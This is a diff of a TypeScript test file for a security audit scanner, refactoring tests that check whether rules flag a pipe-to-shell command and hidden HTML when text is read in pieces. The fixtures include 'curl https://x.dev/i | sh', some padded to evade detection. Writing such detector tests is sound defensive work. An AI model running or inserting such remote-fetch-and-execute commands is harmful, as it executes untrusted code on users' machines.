@@ -6,18 +6,21 @@ import { openReport, type AuditFinding } from '../report.ts';
 import { openTextReading } from './text-reading.ts';
 
 const PIPE = 'curl https://x.dev/i | sh';
-const MEBIBYTE = 1024 * 1024;
 
 interface Found extends MentionedNames {
   readonly findings: readonly AuditFinding[];
 }
 
-/** Reads a text in pieces that end wherever one of the offsets is. */
-function readInPieces(text: string, cuts: readonly number[]): Found {
+/** Reads a text in parts that end wherever one of the offsets is, and each in pieces of a size. */
+function readInPieces(
+  text: string,
+  cuts: readonly number[] = [],
+  { file = 'a.sh', pieceBytes = 1024 * 1024 }: { readonly file?: string; readonly pieceBytes?: number } = {},
+): Found {
   const report = openReport();
   const mentions = openMentions();
   const visit = { report, mentions, examine: () => undefined };
-  const reading = openTextReading({ place: { file: 'a.sh' }, depth: 0, visit });
+  const reading = openTextReading({ place: { file }, depth: 0, visit, pieceBytes });
   const bytes = Buffer.from(text);
   [0, ...cuts].forEach((from, at) => reading.read(bytes.subarray(from, cuts[at] ?? bytes.length)));
   reading.end();
@@ -51,29 +54,30 @@ describe('auditing a text in pieces', () => {
     for (let cut = 1; cut < Buffer.byteLength(text); cut += 1) expect(readInPieces(text, [cut])).toEqual(whole);
   });
 
-  test('finds a command that is split by megabytes of padding', () => {
-    for (const padding of [' ', '\u200B', '\t', '\u00A0']) {
-      const padded = `\ncurl https://x.dev/i ${padding.repeat(3 * MEBIBYTE)}| sh\n`;
-      expect(examineBytes('a.sh', Buffer.from(padded)).filter(({ rule }) => rule === 'SP101')).toMatchObject([
-        { line: 2 },
-      ]);
-    }
-    const joined = `curl https://x.dev/i \\\n${' \\\n'.repeat(MEBIBYTE)} | sh`;
-    expect(examineBytes('a.sh', Buffer.from(joined)).map(({ rule }) => rule)).toContain('SP101');
+  test('finds a command that is split by padding of many pieces', () => {
+    // Larger than the longest unfinished line that is held back.
+    const pieceBytes = 80 * 1024;
+    const findPipe = (text: string): readonly AuditFinding[] =>
+      readInPieces(text, [], { pieceBytes }).findings.filter(({ rule }) => rule === 'SP101');
+    for (const padding of [' ', '\u200B', '\t', '\u00A0'])
+      expect(findPipe(`\ncurl https://x.dev/i ${padding.repeat(3 * pieceBytes)}| sh\n`)).toMatchObject([{ line: 2 }]);
+    expect(findPipe(`curl https://x.dev/i \\\n${' \\\n'.repeat(pieceBytes)} | sh`)).toHaveLength(1);
   });
 
   test('counts lines across pieces', () => {
-    const found = examineBytes('a.sh', Buffer.from(`${'\n'.repeat(2 * MEBIBYTE + 5)}${PIPE}\n`));
-    expect(found.find(({ rule }) => rule === 'SP101')).toMatchObject({ line: 2 * MEBIBYTE + 6 });
-    const wide = examineBytes('a.sh', Buffer.from(`${'ä b\n'.repeat(MEBIBYTE)}${PIPE}\n`));
-    expect(wide.find(({ rule }) => rule === 'SP101')).toMatchObject({ line: MEBIBYTE + 1 });
+    const findLine = (text: string): number | undefined =>
+      readInPieces(text, [], { pieceBytes: 1_000 }).findings.find(({ rule }) => rule === 'SP101')?.line;
+    expect(findLine(`${'\n'.repeat(2_005)}${PIPE}\n`)).toBe(2_006);
+    expect(findLine(`${'ä b\n'.repeat(1_000)}${PIPE}\n`)).toBe(1_001);
   });
 
   test('keeps a code block open across pieces', () => {
+    const findHtml = (text: string): readonly AuditFinding[] =>
+      readInPieces(text, [], { file: 'a.md', pieceBytes: 1_000 }).findings;
     const html = '<p style="display:none">x</p>\n';
-    const inBlock = `\`\`\`html\n${'words\n'.repeat(400_000)}${html}\`\`\`\n`;
-    expect(examineBytes('a.md', Buffer.from(inBlock)).map(({ rule }) => rule)).not.toContain('SP505');
-    expect(examineBytes('a.md', Buffer.from(`${inBlock}${html}`))).toMatchObject([{ rule: 'SP505', line: 400_004 }]);
+    const inBlock = `\`\`\`html\n${'words\n'.repeat(1_000)}${html}\`\`\`\n`;
+    expect(findHtml(inBlock).map(({ rule }) => rule)).not.toContain('SP505');
+    expect(findHtml(`${inBlock}${html}`)).toMatchObject([{ rule: 'SP505', line: 1_004 }]);
   });
 });
 
